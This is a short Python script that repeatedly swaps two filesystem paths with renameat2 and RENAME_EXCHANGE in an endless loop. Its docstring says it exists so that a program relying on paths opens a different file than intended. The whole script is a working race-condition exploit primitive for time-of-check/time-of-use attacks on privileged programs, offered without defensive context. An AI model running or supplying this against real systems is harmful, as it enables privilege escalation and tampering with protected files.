"""Exchanges two paths without end (RENAME_EXCHANGE), so that a program that works by paths finds another file."""
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
one, other = (word.encode() for word in sys.argv[1:3])
print('ready', flush=True)
while True:
    libc.renameat2(-100, one, -100, other, 2)
